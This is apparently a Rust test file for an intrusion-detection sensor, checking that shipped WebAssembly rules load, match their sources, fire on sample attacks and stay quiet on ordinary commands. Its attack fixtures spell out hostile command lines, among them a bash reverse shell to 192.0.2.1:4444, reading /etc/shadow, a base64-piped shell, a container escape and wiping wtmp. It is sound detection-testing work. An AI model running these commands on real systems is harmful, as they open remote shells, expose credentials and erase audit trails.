//! The shipped components: they are what their sources say, they load, they alert on what they
//! detect and stay silent on a day's ordinary work, in this sensor and not in a stand-in.

use std::io::Write as _;
use std::sync::Arc;

use ocellus::event::{Event, Field, Kinds, Value};
use ocellus::rules::build::{BuildError, build};
use ocellus::rules::{Loader, Metering, RuleEngine, RuleSet};
use ocellus_tests::prebuilt::{Guest, Shelf};

/// An execution: executable, arguments, parent's executable, and what else is special.
fn exec(executable: &str, args: &[&str], parent: &str, more: &[(Field, Value)]) -> Arc<Event> {
    let mut event = Event::default();
    event.kinds = Kinds::PROCESS_FORK.with(Kinds::PROCESS_EXEC);
    let name = |path: &str| path.rsplit('/').next().unwrap_or(path).to_owned();
    event.set_text(Field::PROCESS_EXECUTABLE, executable);
    event.set_text(Field::PROCESS_NAME, name(executable));
    event.set_text(Field::PROCESS_COMMAND_LINE, args.join(" "));
    event.set(Field::PROCESS_ARGS, Value::Texts(args.iter().collect()));
    event.set_text(Field::PROCESS_WORKING_DIRECTORY, "/home/user");
    event.set_text(Field::PROCESS_PARENT_EXECUTABLE, parent);
    event.set_text(Field::PROCESS_PARENT_NAME, name(parent));
    event.set(Field::OCELLUS_ANCESTORS_NAME, Value::Texts([name(parent)].iter().collect()));
    for field in [Field::USER_ID, Field::USER_EFFECTIVE_ID] {
        event.set_text(field, "1000");
    }
    for field in [Field::USER_NAME, Field::USER_EFFECTIVE_NAME] {
        event.set_text(field, "user");
    }
    for (field, value) in more {
        event.set(*field, value.clone());
    }
    Arc::new(event)
}

fn bash(executable: &str, args: &[&str]) -> Arc<Event> {
    exec(executable, args, "/usr/bin/bash", &[])
}

/// Rules that no single event sets off; what does is in their fixtures.
const OVER_TIME: [&str; 4] = ["download-execute", "failed-sudo", "first-seen", "rare-child"];

/// An attack for each other rule, and the one rule that it sets off.
fn attacks() -> Vec<(&'static str, Arc<Event>)> {
    let flag = Value::Flag(true);
    let contained = [(Field::CONTAINER_ID, Value::Static("0123456789ab"))];
    let script = "python3 -c 'import socket'; bash -i >& /dev/tcp/192.0.2.1/4444 0>&1";
    let memory = [(Field::OCELLUS_EXE_MEMFD, flag.clone())];
    let setuid = [(Field::OCELLUS_EXE_SETUID, flag)];
    let nsenter = ["nsenter", "-t", "1", "-m", "sh"];
    let pool = ["./x", "-o", "stratum+tcp://pool.example.org:3333"];
    vec![
        ("container-escape", exec("/usr/bin/nsenter", &nsenter, "/usr/bin/sh", &contained)),
        ("credential-files", bash("/usr/bin/cat", &["cat", "/etc/shadow"])),
        ("crypto-miner", bash("/home/user/x", &pool)),
        ("defences-off", bash("/usr/bin/systemctl", &["systemctl", "stop", "auditd"])),
        ("encoded-script", bash("/usr/bin/sh", &["sh", "-c", "echo aWQK | base64 -d | sh"])),
        ("exec-from-memory", exec("/memfd:x", &["x"], "/usr/bin/python3", &memory)),
        ("exec-from-world-writable", bash("/dev/shm/x", &["./x"])),
        ("kernel-thread-masquerade", bash("/home/user/x", &["[kworker/0:1]"])),
        ("log-tampering", bash("/usr/bin/shred", &["shred", "-u", "/var/log/wtmp"])),
        ("reverse-shell", bash("/usr/bin/bash", &["bash", "-c", script])),
        ("setuid-abuse", exec("/home/user/helper", &["helper"], "/usr/bin/bash", &setuid)),
        ("shell-from-service", exec("/usr/bin/sh", &["sh", "-c", "id"], "/usr/sbin/nginx", &[])),
    ]
}

/// A day's ordinary work, a few lines of it close to what the rules detect.
fn ordinary() -> Vec<Arc<Event>> {
    [
        "/usr/bin/ls -la /tmp",
        "/usr/bin/cat /etc/passwd",
        "/usr/bin/cat /home/user/.ssh/id_ed25519.pub",
        "/usr/bin/tail -f /var/log/syslog",
        "/usr/bin/rm -rf /tmp/build",
        "/usr/bin/rm -f /var/log/app/app.log.1.gz",
        "/usr/bin/git commit -m reverse",
        "/usr/bin/ssh -i /home/user/.ssh/id_ed25519 host",
        "/usr/bin/python3 -m http.server",
        "/usr/bin/python3 -m venv .venv",
        "/usr/bin/bash -c true",
        "/usr/bin/sh -c base64 -d < cert.b64 > cert.pem",
        "/usr/bin/make -j2 all",
        "/usr/bin/cc -c main.c",
        "/usr/bin/curl -fsSL https://example.org/health",
        "/usr/bin/nc -z db 5432",
        "/usr/bin/systemctl restart nginx",
        "/usr/bin/systemctl status auditd",
        "/usr/bin/journalctl --vacuum-time=2weeks",
        "/usr/bin/sudo systemctl reload nginx",
        "/usr/bin/mount /dev/sda1 /mnt",
        "/usr/sbin/nginx -t",
        "/usr/bin/docker run --rm hello-world",
        "/usr/bin/kubectl get pods",
        "/usr/bin/[ -f /etc/passwd ]",
        "/usr/bin/grep -r [k]worker /proc",
    ]
    .iter()
    .map(|line| {
        let args: Vec<&str> = line.split(' ').collect();
        bash(args[0], &args)
    })
    .collect()
}

fn loader() -> Loader {
    Loader::new(RuleEngine::new(Metering::Fuel).expect("this machine can run WebAssembly"))
}

fn load(loader: &Loader, set: &mut RuleSet, guest: &Guest, file: &std::path::Path) {
    let wasm = std::fs::read(file)
        .unwrap_or_else(|error| panic!("cannot read {}: {error}", file.display()));
    let prepared = loader
        .load(&guest.name, &wasm, "")
        .unwrap_or_else(|error| panic!("{} does not load: {error}", guest.name));
    set.install(prepared).unwrap_or_else(|error| panic!("{}: {error}", guest.name));
}

/// All shipped rules, in force.
fn shipped(shelf: Shelf) -> RuleSet {
    let (loader, mut set) = (loader(), RuleSet::new());
    for guest in shelf.guests().expect("the folder is there") {
        load(&loader, &mut set, &guest, &guest.component());
    }
    set
}

fn judged(set: &mut RuleSet, event: &Arc<Event>) -> Event {
    let verdict = set.judge(event, 0);
    let mut event = (**event).clone();
    verdict.apply(&mut event);
    event
}

fn alerts(event: &Event) -> Vec<String> {
    let texts = event.texts(Field::OCELLUS_RULES_ALERTS);
    texts.map(|texts| texts.iter().map(str::to_owned).collect()).unwrap_or_default()
}

#[test]
fn every_component_was_built_of_the_present_sources() {
    for shelf in Shelf::ALL {
        let recorded = shelf.recorded().expect("dist/SOURCES is there");
        let guests = shelf.guests().expect("the folder is there");
        let names: Vec<&String> = guests.iter().map(|guest| &guest.name).collect();
        assert!(names.iter().copied().eq(recorded.keys()), "{names:?} but {recorded:?}");
        for guest in guests {
            assert_eq!(
                Some(&guest.digests().expect("the component and its sources are there")),
                recorded.get(&guest.name),
                "{} was not rebuilt after a change; run \
                 `make rules` and commit what it writes",
                guest.name
            );
        }
    }
}

#[test]
fn every_rule_says_who_it_is() {
    let loader = loader();
    for guest in Shelf::Rules.guests().expect("the folder is there") {
        let wasm = std::fs::read(guest.component()).expect("the component is there");
        let prepared = loader.load(&guest.name, &wasm, "").expect("it loads");
        let [info] = prepared.rules() else { panic!("{} is not one rule", guest.name) };
        assert_eq!(*info.id, *guest.name);
        assert!(!info.attack.is_empty() && !info.false_positives.is_empty(), "{info:?}");
        assert!(info.description.ends_with('.') && !info.permissions.drop, "{info:?}");
        let readme = guest.project.join("README.md");
        let readme = std::fs::read_to_string(readme).expect("each rule has a README.md");
        for technique in &info.attack {
            assert!(readme.contains(&**technique), "{}: {technique} is not in README", guest.name);
        }
    }
}

#[test]
fn each_attack_sets_its_rule_off_and_no_other() {
    let mut set = shipped(Shelf::Rules);
    for (rule, event) in attacks() {
        assert_eq!(alerts(&judged(&mut set, &event)), [rule], "{event:?}");
    }
    let rules = Shelf::Rules.guests().expect("the folder is there");
    let names = rules.iter().map(|guest| guest.name.as_str());
    let at_once = names.filter(|name| !OVER_TIME.contains(name));
    assert!(at_once.eq(attacks().iter().map(|(rule, _)| *rule)));
}

#[test]
fn ordinary_work_sets_no_rule_off() {
    let mut set = shipped(Shelf::Rules);
    for event in ordinary() {
        assert_eq!(alerts(&judged(&mut set, &event)), [""; 0], "{event:?}");
    }
}

#[test]
fn an_event_that_lacks_every_field_is_no_fault() {
    let mut set = shipped(Shelf::Rules);
    let mut event = Event::default();
    event.kinds = Kinds::PROCESS_EXEC;
    judged(&mut set, &Arc::new(event));
    for component in set.stats() {
        let counters = &component.counters;
        let faults = counters.traps + counters.timeouts + counters.memory_faults;
        assert_eq!(faults + counters.output_faults, 0, "{component:?}");
    }
}

#[test]
fn the_same_rule_says_the_same_in_every_language() {
    let mut set = shipped(Shelf::Examples);
    let event = judged(&mut set, &bash("/usr/bin/nc", &["nc", "-l", "4444"]));
    let languages = ["c", "js", "rust", "zig"].map(|it| format!("example-netcat-{it}"));
    assert_eq!(alerts(&event)[..], languages);
    let messages = event.texts(Field::OCELLUS_RULES_MESSAGES).expect("they said something");
    assert_eq!(messages.iter().collect::<Vec<_>>(), ["user started nc -l 4444"; 4]);
    assert_eq!(alerts(&judged(&mut set, &bash("/usr/bin/ls", &["ls"]))), [""; 0]);
}

#[test]
fn rules_built_here_judge_as_the_shipped_ones_do() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    let mut built = Vec::new();
    // Those of the tests are variants of one another, and cannot be in force together.
    let shelves = [Shelf::Rules, Shelf::Examples].into_iter();
    for guest in shelves.flat_map(|shelf| shelf.guests().expect("it is there")) {
        match build(&guest.project, folder.path(), None) {
            Ok(file) => built.push((guest, file)),
            // The digests above still hold.
            Err(error @ BuildError::NoToolchain { .. }) => not_compared(&guest.name, &error),
            Err(error) => panic!("{} does not build: {error}", guest.name),
        }
    }
    let rules = built.iter().filter(|(guest, _)| guest.project.join("Cargo.toml").exists());
    assert!(rules.count() > 10, "no compiler for rules in Rust; .ci/setup test installs one");
    let (loader, mut here, mut shipped) = (loader(), RuleSet::new(), RuleSet::new());
    for (guest, file) in &built {
        load(&loader, &mut here, guest, file);
        load(&loader, &mut shipped, guest, &guest.component());
    }
    let netcat = [("", bash("/usr/bin/nc", &["nc", "-l", "4444"]))];
    let attacks = attacks().into_iter().chain(netcat).map(|(_, event)| event);
    for event in attacks.chain(ordinary()) {
        assert_eq!(judged(&mut here, &event), judged(&mut shipped, &event));
    }
}

/// Says so past the test runner, which swallows what a test prints when it passes.
fn not_compared(name: &str, why: &BuildError) {
    let line = format!("NOT COMPARED with its source: {name}: {why}\n");
    std::io::stderr().write_all(line.as_bytes()).expect("standard error is open");
}

/// It is not shipped, so it is compared with its sister where it can be built.
#[test]
fn the_python_example_says_the_same_as_the_rust_one() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    let python = Shelf::Examples.folder().join("rule-python");
    let wasm = match build(&python, folder.path(), None) {
        Ok(file) => std::fs::read(file).expect("it was just written"),
        Err(error @ BuildError::NoToolchain { .. }) => return not_compared("rule-python", &error),
        Err(error) => panic!("it does not build: {error}"),
    };
    let mut set = shipped(Shelf::Examples);
    set.install(loader().load("rule-python", &wasm, "").expect("it loads")).expect("it fits");
    let event = bash("/usr/bin/nc", &["nc", "-l", "4444"]);
    assert_eq!(set.judge(&event, 0).faults, []);
    let event = judged(&mut set, &event);
    let messages = event.texts(Field::OCELLUS_RULES_MESSAGES).expect("they said something");
    assert_eq!(messages.iter().collect::<Vec<_>>(), ["user started nc -l 4444"; 5]);
}
